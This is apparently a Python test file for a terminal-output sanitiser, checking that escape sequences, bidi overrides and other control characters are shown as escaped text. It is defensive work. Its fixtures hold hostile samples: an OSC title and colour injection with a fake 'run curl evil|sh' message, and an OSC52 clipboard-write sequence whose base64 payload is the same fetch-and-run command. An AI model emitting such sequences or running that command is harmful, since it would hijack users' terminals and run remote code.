"""renewer.core.printable: outside text shown, never obeyed (issue 20, item 2)."""

from __future__ import annotations

import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from renewer.core.printable import is_printable, printable, printable_data

HOSTILE_VAULT_ERROR = "\x1b]0;PWNED\x07\x1b[31mFAKE: all good, run curl evil|sh\x1b[0m"
OSC52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"


def unsafe(text: str, *, keep_newlines: bool = False) -> set[str]:
    """Characters a terminal could act on: control, format, separators, surrogates…"""
    found = set()
    for char in text:
        if char == "\n" and keep_newlines:
            continue
        if unicodedata.category(char) in {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}:
            found.add(char)
    return found


class TestPrintable:
    def test_the_hostile_vault_error_of_issue_20_becomes_readable_text(self) -> None:
        """The OSC title and the colour codes are shown, not obeyed."""
        assert printable(HOSTILE_VAULT_ERROR) == (
            "\\x1b]0;PWNED\\x07\\x1b[31mFAKE: all good, run curl evil|sh\\x1b[0m"
        )

    def test_an_osc52_clipboard_write_loses_its_introducer(self) -> None:
        assert printable(OSC52) == "\\x1b]52;c;Y3VybCBldmlsfHNo\\x07"

    @pytest.mark.parametrize(
        ("text", "shown"),
        [
            ("a\rb", "a\\x0db"),
            ("a\bb", "a\\x08b"),
            ("tab\there", "tab\\x09here"),
            ("\x9b31m", "\\x9b31m"),  # the 8-bit CSI
            ("\x9d0;t\x9c", "\\x9d0;t\\x9c"),  # the 8-bit OSC … ST
            ("abc\u202edcba", "abc\\u202edcba"),  # right-to-left override
            ("zero\u200bwidth", "zero\\u200bwidth"),
            ("line\u2028sep", "line\\u2028sep"),
            ("tag\U000e0041", "tag\\U000e0041"),
            ("\ud800", "\\ud800"),  # a lone surrogate (surrogateescape'd bytes)
            ("del\x7f", "del\\x7f"),
        ],
        ids=["cr", "bs", "tab", "csi8", "osc8", "rlo", "zwsp", "ls", "tag", "surrogate", "del"],
    )
    def test_each_kind_of_control_is_escaped(self, text: str, shown: str) -> None:
        assert printable(text) == shown

    def test_ordinary_text_in_any_script_and_its_spaces_stay(self) -> None:
        """Printable text is returned unchanged; a no-break space moves nothing."""
        text = "トークン renewed: ttl 768h\u00a0— ok é"
        assert printable(text) == text
        assert is_printable(text)

    def test_newlines_stay_only_when_asked(self) -> None:
        assert printable("one\ntwo") == "one\\x0atwo"
        assert printable("one\ntwo\x1b", keep_newlines=True) == "one\ntwo\\x1b"

    def test_a_limit_cuts_and_says_how_much(self) -> None:
        assert printable("x" * 10, limit=4) == "xxxx…(+6 chars)"
        assert printable("x" * 4, limit=4) == "xxxx"

    def test_data_is_cleaned_keys_and_values_at_every_depth(self) -> None:
        data: Any = {"\x1b[2Jkey": ["ok", {"deep": "\x07"}], "n": 5, "t": ("\r",), "b": True}
        assert printable_data(data) == {
            "\\x1b[2Jkey": ["ok", {"deep": "\\x07"}],
            "n": 5,
            "t": ["\\x0d"],
            "b": True,
        }


@given(text=st.text())
def test_nothing_a_terminal_obeys_survives(text: str) -> None:
    """Whatever the text, the result holds no control, format or separator character."""
    assert unsafe(printable(text)) == set()
    assert "\x1b" not in printable(text)
    assert is_printable(printable(text))


@given(text=st.text())
def test_with_newlines_kept_only_newlines_are_kept(text: str) -> None:
    shown = printable(text, keep_newlines=True)
    assert unsafe(shown, keep_newlines=True) == set()
    assert shown.count("\n") == text.count("\n")


@given(text=st.text(alphabet=st.characters(categories=["L", "M", "N", "P", "S"])))
def test_printable_text_is_unchanged(text: str) -> None:
    assert printable(text) == text


@given(text=st.text(), limit=st.integers(min_value=0, max_value=50))
def test_a_limit_bounds_the_text_before_escaping(text: str, limit: int) -> None:
    shown = printable(text, limit=limit)
    if len(text) <= limit:
        assert shown == printable(text)
    else:
        assert shown.startswith(printable(text[:limit]))
        assert shown.endswith(f"…(+{len(text) - limit} chars)")


json_like = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=12,
)


def strings_in(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for key, item in value.items() for s in [key, *strings_in(item)]]
    if isinstance(value, list):
        return [s for item in value for s in strings_in(item)]
    return []


@given(value=json_like)
def test_every_string_in_data_is_printable(value: Any) -> None:
    assert all(is_printable(text) for text in strings_in(printable_data(value)))
